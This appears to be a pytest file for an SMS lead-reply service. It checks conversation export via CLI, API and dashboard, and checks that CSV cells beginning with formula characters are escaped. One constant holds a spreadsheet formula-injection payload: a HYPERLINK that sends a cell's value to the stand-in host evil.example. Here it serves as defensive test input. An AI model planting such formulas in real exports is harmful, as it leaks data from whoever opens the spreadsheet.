"""Conversations out: `replyline export`, GET /api/export and the dashboard's download link.

The round trip runs a lead's SMS through the real ingest, router, drafter and sender
(fake Twilio at HTTP level), approves the draft through the API, posts Twilio's signed
status callback, and reads the conversation back as JSON lines and CSV.
"""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import asyncpg
import pytest

from libs.bus import Bus
from libs.conversation import csv_cell
from libs.db import migrate
from libs.events import DraftApproved, DraftCreated, OutboundSent, thread_of
from libs.twilio_errors import describe
from replyline import cli
from services.drafter.service import MIGRATIONS as DRAFTER_MIGRATIONS
from services.ingest.service import MIGRATIONS as INGEST_MIGRATIONS
from services.router.service import MIGRATIONS as ROUTER_MIGRATIONS
from services.scheduler.service import MIGRATIONS as SCHEDULER_MIGRATIONS
from services.sender.service import MIGRATIONS as SENDER_MIGRATIONS
from tests.harness import EventCollector, eventually
from tests.ops.conftest import StartFleet, StartIngest
from tests.ops.test_dashboard_http import Browser
from testsupport.fakes.twilio_server import ACCOUNT_SID, AUTH_TOKEN, FakeTwilio
from testsupport.webhooks import inbound_form, status_form

pytestmark = pytest.mark.timeout(120)

LEAD = "+12125550123"
QUESTION = "Hi, how much for a haircut on Saturday?"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
async def fake_twilio() -> AsyncIterator[FakeTwilio]:
    async with FakeTwilio() as fake:
        yield fake


@pytest.fixture
def cli_env(nats_url: str, database_url: str, namespace: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for key, value in {"NATS_URL": nats_url, "DATABASE_URL": database_url, "NAMESPACE": namespace}.items():
        monkeypatch.setenv(f"REPLYLINE_{key}", value)
    monkeypatch.delenv("REPLYLINE_CONFIG", raising=False)


def unescape(cell: str) -> str:
    """What a spreadsheet shows for a cell csv_cell protected."""
    return cell[1:] if cell.startswith("'") else cell


def parse_csv(text: str) -> list[dict[str, Any]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for key, value in row.items():
            row[key] = unescape(value)
        row["details"] = json.loads(row["details"]) if row["details"] else {}
    return rows


def parse_jsonl(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines() if line]


_exports = itertools.count()


def _read(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as handle:  # keep a lead's bare CR as it is
        return handle.read()


async def export_cli(tmp_path: Path, *args: str) -> str:
    out = tmp_path / f"export-{next(_exports)}"
    code = await asyncio.to_thread(cli.main, ["export", *args, "-o", str(out)])
    assert code == 0
    return await asyncio.to_thread(_read, out)


def assert_round_trip(rows: list[dict[str, Any]], draft: DraftCreated, sent: OutboundSent) -> None:
    assert {r["thread"] for r in rows} == {LEAD}
    times = [datetime.fromisoformat(r["at"]) for r in rows]
    assert times == sorted(times), "rows are in time order"
    kinds = [r["kind"] for r in rows]
    # The lead's message, the draft, the owner's decision, the reply, Twilio's status.
    assert kinds[:4] == ["inbound", "draft", "decision", "outbound"], kinds
    assert set(kinds[4:]) == {"delivery"}, kinds
    inbound, draft_row, decision, outbound = rows[:4]
    assert inbound["body"] == QUESTION and inbound["actor"] == LEAD
    assert draft_row["body"] == draft.body and draft_row["status"] == "APPROVED_TO_SEND"
    assert str(draft_row["ref"]) == draft.ref and str(draft_row["version"]) == "1"
    assert decision["status"] == "approve" and decision["details"]["outcome"] == "accepted"
    assert decision["details"]["source"] == "api"
    # Sent, then reported undelivered by Twilio: the outbox row carries the error, explained.
    assert outbound["body"] == draft.body and outbound["status"] == "FAILED_SEND"
    assert str(outbound["error_code"]) == "30003" and "30003" in outbound["error_help"]
    assert outbound["details"]["provider_sid"] == sent.provider_sid
    deliveries = {r["status"]: r for r in rows[4:]}
    assert "undelivered" in deliveries, deliveries
    failed = deliveries["undelivered"]
    assert str(failed["error_code"]) == "30003"
    assert failed["error_help"] == describe(30003)
    assert deliveries["sent"]["error_code"] in (None, "")


async def test_export_round_trips_a_thread_through_the_real_services(
    start_ops_ingest: StartIngest,
    start_fleet: StartFleet,
    admin_token: Callable[..., Awaitable[str]],
    fake_twilio: FakeTwilio,
    bus: Bus,
    pool: asyncpg.Pool,
    cli_env: None,
    tmp_path: Path,
) -> None:
    collector = await EventCollector(bus, ">").start()
    try:
        ingest = await start_ops_ingest()
        await start_fleet("router", "drafter")
        await start_fleet(
            "sender",
            quiet_hours_start="00:00",
            quiet_hours_end="00:00",
            twilio_account_sid=ACCOUNT_SID,
            twilio_auth_token=AUTH_TOKEN,
            twilio_from_number="+15005550006",
            twilio_api_base_url=fake_twilio.base_url,
            public_base_url="https://replyline.example.com",
        )
        token = await admin_token()

        status, _ = await ingest.post_twilio("/twilio/sms", inbound_form(QUESTION, from_number=LEAD))
        assert status == 200
        (draft,) = await collector.wait_for(DraftCreated, lambda e: e.to_number == LEAD, timeout=20)
        status, body = await ingest.request("POST", f"/api/drafts/{draft.ref}/approve", token=token)
        assert status in (200, 202), body
        await collector.wait_for(DraftApproved, lambda e: e.draft_id == draft.draft_id, timeout=20)
        (sent,) = await collector.wait_for(OutboundSent, lambda e: e.to_number == LEAD, timeout=20)
        for twilio_status, extra in (("sent", {}), ("undelivered", {"ErrorCode": 30003})):
            form = status_form(sent.provider_sid, twilio_status, to=LEAD, **extra)
            assert (await ingest.post_twilio("/twilio/status", form))[0] == 204

        async def recorded() -> bool:
            n = await pool.fetchval(
                "SELECT count(*) FROM delivery_events WHERE provider_sid = $1", sent.provider_sid
            )
            return bool(n == 2)

        await eventually(recorded, timeout=20)
    finally:
        await collector.stop()

    # The CLI, both formats: the same rows.
    jsonl = parse_jsonl(await export_cli(tmp_path, "--thread", LEAD, "--format", "jsonl"))
    assert_round_trip(jsonl, draft, sent)
    csv_rows = parse_csv(await export_cli(tmp_path, "--thread", LEAD, "--format", "csv"))
    assert_round_trip(csv_rows, draft, sent)
    assert [(r["kind"], r["id"], r["body"]) for r in csv_rows] == [
        (r["kind"], r["id"], r["body"]) for r in jsonl
    ]

    # The API: a token is required; the answer streams the same rows.
    status, _ = await ingest.request("GET", f"/api/export?thread={LEAD[1:]}&format=jsonl")
    assert status == 401
    async with ingest.session.get(
        ingest.url + "/api/export",
        params={"thread": LEAD, "format": "jsonl"},
        headers={"Authorization": f"Bearer {token}"},
    ) as resp:
        assert resp.status == 200
        assert resp.headers["Content-Type"].startswith("application/x-ndjson")
        assert resp.headers.get("Transfer-Encoding") == "chunked"
        assert "attachment" in resp.headers["Content-Disposition"]
        api_rows = parse_jsonl(await resp.text())
    assert api_rows == jsonl
    status, body = await ingest.request("GET", "/api/export?outcome=bogus", token=token)
    assert status == 400 and "outcome" in body["error"]

    # The dashboard's thread page links the download; the link streams the CSV.
    browser = Browser(ingest)
    await browser.login(await admin_token("dashboard-user"))
    status, _, page = await browser.request("GET", f"/dashboard/threads/{thread_of(LEAD)}")
    assert status == 200
    link = f"/dashboard/threads/{thread_of(LEAD)}/export?format=csv"
    assert f'href="{link}"' in page
    status, _, text = await browser.request("GET", link)
    assert status == 200
    assert [r["id"] for r in parse_csv(text)] == [r["id"] for r in jsonl]
    status, location, _ = await Browser(ingest).request("GET", link)
    assert status in (302, 303) and location.startswith("/dashboard/login")


async def _all_slices(pool: asyncpg.Pool) -> None:
    await migrate(pool, "ingest", INGEST_MIGRATIONS)
    for name, folder in (
        ("router", ROUTER_MIGRATIONS),
        ("drafter", DRAFTER_MIGRATIONS),
        ("sender", SENDER_MIGRATIONS),
        ("scheduler", SCHEDULER_MIGRATIONS),
    ):
        await migrate(pool, name, folder)


async def _inbound(pool: asyncpg.Pool, number: str, sid: str, body: str, at: datetime) -> None:
    await pool.execute(
        "INSERT INTO inbound_messages (message_sid, from_number, to_number, thread, body, raw, "
        "event_id, received_at) VALUES ($1, $2, '+15550000000', $3, $4, '{}'::jsonb, $1, $5)",
        sid, number, number[1:], body, at,
    )  # fmt: skip


async def _outcome(pool: asyncpg.Pool, number: str, outcome: str, at: datetime) -> None:
    await pool.execute(
        "INSERT INTO conversation_outcomes (thread, outcome, reason, decided_by, source_event, created_at) "
        "VALUES ($1, $2, 'test', 'rule', $3, $4)",
        number[1:], outcome, f"ev-{number}-{outcome}", at,
    )  # fmt: skip


A = "+12125550101"
B = "+12125550102"


async def test_export_filters_by_date_range_and_outcome(
    pool: asyncpg.Pool, cli_env: None, tmp_path: Path
) -> None:
    await _all_slices(pool)
    day = lambda d, h=12: datetime(2030, 6, d, h, tzinfo=UTC)  # noqa: E731
    await _inbound(pool, A, "SMa1", "A on the 1st", day(1))
    await _inbound(pool, A, "SMa2", "A on the 3rd", day(3))
    await _inbound(pool, B, "SMb1", "B on the 2nd", day(2))
    await _outcome(pool, A, "no_response", day(4))
    await _outcome(pool, A, "qualified", day(5))  # the latest outcome counts
    await _outcome(pool, B, "unqualified", day(4))

    rows = parse_jsonl(await export_cli(tmp_path, "--format", "jsonl"))
    assert [(r["thread"], r["kind"], r["body"] or r["status"]) for r in rows] == [
        (A, "inbound", "A on the 1st"),
        (A, "inbound", "A on the 3rd"),
        (A, "outcome", "test"),
        (A, "outcome", "test"),
        (B, "inbound", "B on the 2nd"),
        (B, "outcome", "test"),
    ]
    rows = parse_jsonl(
        await export_cli(tmp_path, "--format", "jsonl", "--since", "2030-06-02", "--until", "2030-06-04")
    )
    assert [r["body"] for r in rows] == ["A on the 3rd", "B on the 2nd"]  # by thread, then time
    rows = parse_jsonl(await export_cli(tmp_path, "--format", "jsonl", "--outcome", "qualified"))
    assert {r["thread"] for r in rows} == {A} and len(rows) == 4
    rows = parse_jsonl(await export_cli(tmp_path, "--format", "jsonl", "--outcome", "no_response"))
    assert rows == []  # A's latest outcome is "qualified"
    rows = parse_jsonl(
        await export_cli(tmp_path, "--format", "jsonl", "--outcome", "qualified", "--until", "2030-06-02")
    )
    assert [r["body"] for r in rows] == ["A on the 1st"]


async def test_csv_cells_that_look_like_formulas_are_escaped(
    pool: asyncpg.Pool, cli_env: None, tmp_path: Path
) -> None:
    await _all_slices(pool)
    bodies = [INJECTION, "+1 call me", "-5 off?", "@channel", "\tTabbed", "\rReturn", "plain = fine"]
    for n, body in enumerate(bodies):
        await _inbound(pool, A, f"SMx{n}", body, datetime(2030, 6, 1, 12, n, tzinfo=UTC))
    text = await export_cli(tmp_path, "--thread", A, "--format", "csv")
    raw = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["body"] for r in raw] == ["'" + b for b in bodies[:-1]] + ["plain = fine"]
    assert {r["thread"] for r in raw} == {"'" + A}  # "+1212..." would be a number (or formula)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in raw for cell in r.values())
    assert csv_cell(None) == "" and csv_cell(3) == "3" and csv_cell("=1+1") == "'=1+1"
